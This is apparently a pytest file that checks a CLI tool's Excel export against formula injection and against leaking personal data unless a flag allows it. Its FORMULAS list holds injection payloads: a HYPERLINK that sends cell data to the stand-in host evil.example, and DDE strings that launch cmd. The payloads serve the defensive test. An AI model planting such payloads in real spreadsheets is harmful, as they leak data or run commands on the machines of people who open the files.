"""Exports: no formula from user text, no personal data without `--include-personal`.

Every cell of every sheet of every workbook an export writes is scanned (and every part of
each .xlsx package as raw XML, so a name hidden in a comment, a chart or the document
properties is found too). The same export with `--include-personal` must show the personal
data: the scan finds what it looks for.
"""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from tests.proof.helpers import query

pytestmark = pytest.mark.usefixtures("needs_export")

# User text shaped like formulas (OWASP CSV/formula injection), each with a marker so a
# formula that slipped through can be found in the XML.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Klik")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=2+2",
    "=1+1\n=3+3",
    "#N/A",
]
NAME = "Ni Luh Rahasia Sekali"
CONTACT = "0812-9999-7777"
SECRET_SUMMARY = "Laporan rahasia: petugas P menerima uang"
FORMULA_NAME = '=CONCAT("Nama","Bocor")'


@pytest.fixture
def needs_export(cli):
    from adurabi_cli.cli.app import COMMANDS

    if "export" not in COMMANDS:
        pytest.skip("export is not in this checkout yet")


@pytest.fixture
def hostile_month(initialized, cli):
    """April 2025: complaints and news whose every free text is hostile or personal."""
    for index, text in enumerate(FORMULAS):
        number = cli("complaint", "add", "-s", "lapas-kerobokan", "--received", "2025-04-10",
                     "--summary", text, "--complainant", f"{text} nama-{index}",
                     "--contact", f"{text} kontak-{index}",
                     "--external-ref", f"{text[:40]}-ref{index}").stdout.strip()  # fmt: skip
        cli("complaint", "update", number, "--status", "selesai", "--note", text, "--on",
            "2025-04-20")  # fmt: skip
        cli("news", "add", "-s", "kanwil", "--media", "instagram", "--date", "2025-04-11",
            "-t", text, "--outlet", text, "--url", f"https://ig.example/p/{index}")  # fmt: skip
    cli("complaint", "add", "-s", "rutan-bangli", "--received", "2025-04-12", "--summary",
        SECRET_SUMMARY, "--complainant", NAME, "--contact", CONTACT, "--confidential")  # fmt: skip
    cli("complaint", "add", "-s", "rutan-bangli", "--received", "2025-04-13", "--summary",
        "Antrean kunjungan lama", "--complainant", FORMULA_NAME, "--contact", CONTACT)  # fmt: skip
    cli("satker", "update", "kanim-denpasar", "--name", "=Kanim 'Denpasar'!A1")
    return initialized


def _export(cli, out: Path, *extra: str) -> list[Path]:
    result = cli("export", "--month", "2025-04", "--out", out, *extra)
    paths = [Path(line) for line in result.stdout.splitlines() if line.strip()]
    assert paths and all(p.suffix == ".xlsx" and p.exists() for p in paths)
    assert sorted(paths) == sorted(out.rglob("*.xlsx"))
    return paths


def _cells(path: Path):
    workbook = load_workbook(path)  # not read-only: data_type and quotePrefix are needed
    try:
        for sheet in workbook.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if cell.value is not None:
                        yield sheet.title, cell
    finally:
        workbook.close()


def _parts(path: Path) -> dict[str, str]:
    with zipfile.ZipFile(path) as package:
        return {name: package.read(name).decode("utf-8", "replace") for name in package.namelist()}


def test_no_formula_from_user_text_in_any_cell(hostile_month, cli, tmp_path):
    for path in _export(cli, tmp_path / "rekap", "--include-personal"):
        texts = 0
        for sheet, cell in _cells(path):
            where = f"{path.name}!{sheet}!{cell.coordinate}: {cell.value!r}"
            assert cell.data_type not in ("f", "e"), where
            if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")):
                assert cell.data_type == "s" and cell.quotePrefix, (
                    f"{path.name}!{sheet}!{cell.coordinate} holds {cell.value!r} unguarded"
                )
                texts += 1
        for name, xml in _parts(path).items():
            if name.startswith("xl/worksheets/"):
                assert not re.search(r"<(?:\w+:)?f[ >]", xml), f"{path.name}: formula in {name}"
            for formula in re.findall(r"<(?:\w+:)?f>(.*?)</(?:\w+:)?f>", xml):
                assert "cmd|" not in formula and "HYPERLINK" not in formula, (name, formula)
        if path.name.startswith("rekap-"):
            assert texts >= len(FORMULAS), f"the hostile texts are missing from {path.name}"


def test_without_include_personal_no_name_contact_or_confidential_summary(
    hostile_month, cli, tmp_path
):
    secrets = [NAME, CONTACT, SECRET_SUMMARY, "Bocor", "nama-", "kontak-"]
    stored = query(hostile_month, "SELECT complainant_name, complainant_contact FROM complaint")
    assert len([row for row in stored if row[0] and "nama-" in row[0]]) == len(FORMULAS)
    for path in _export(cli, tmp_path / "rekap"):
        for sheet, cell in _cells(path):
            text = str(cell.value)
            for secret in secrets:
                assert secret not in text, f"{path.name}!{sheet}!{cell.coordinate}: {text!r}"
        for name, xml in _parts(path).items():
            for secret in secrets:
                assert secret not in xml, f"{secret!r} in {path.name}:{name}"
    # The scan finds them when they are meant to be there.
    found = set()
    for path in _export(cli, tmp_path / "pribadi", "--include-personal"):
        found |= {s for _, cell in _cells(path) for s in (NAME, CONTACT, SECRET_SUMMARY)
                  if s in str(cell.value)}  # fmt: skip
    assert found == {NAME, CONTACT, SECRET_SUMMARY}


def test_a_satker_file_name_is_its_code_whatever_its_name(hostile_month, cli, tmp_path):
    paths = _export(cli, tmp_path / "rekap")
    names = {p.relative_to(tmp_path / "rekap").as_posix() for p in paths}
    assert "2025-04/kanim-denpasar.xlsx" in names
    assert all(re.fullmatch(r"rekap-2025-04\.xlsx|2025-04/[a-z0-9-]+\.xlsx", n) for n in names)
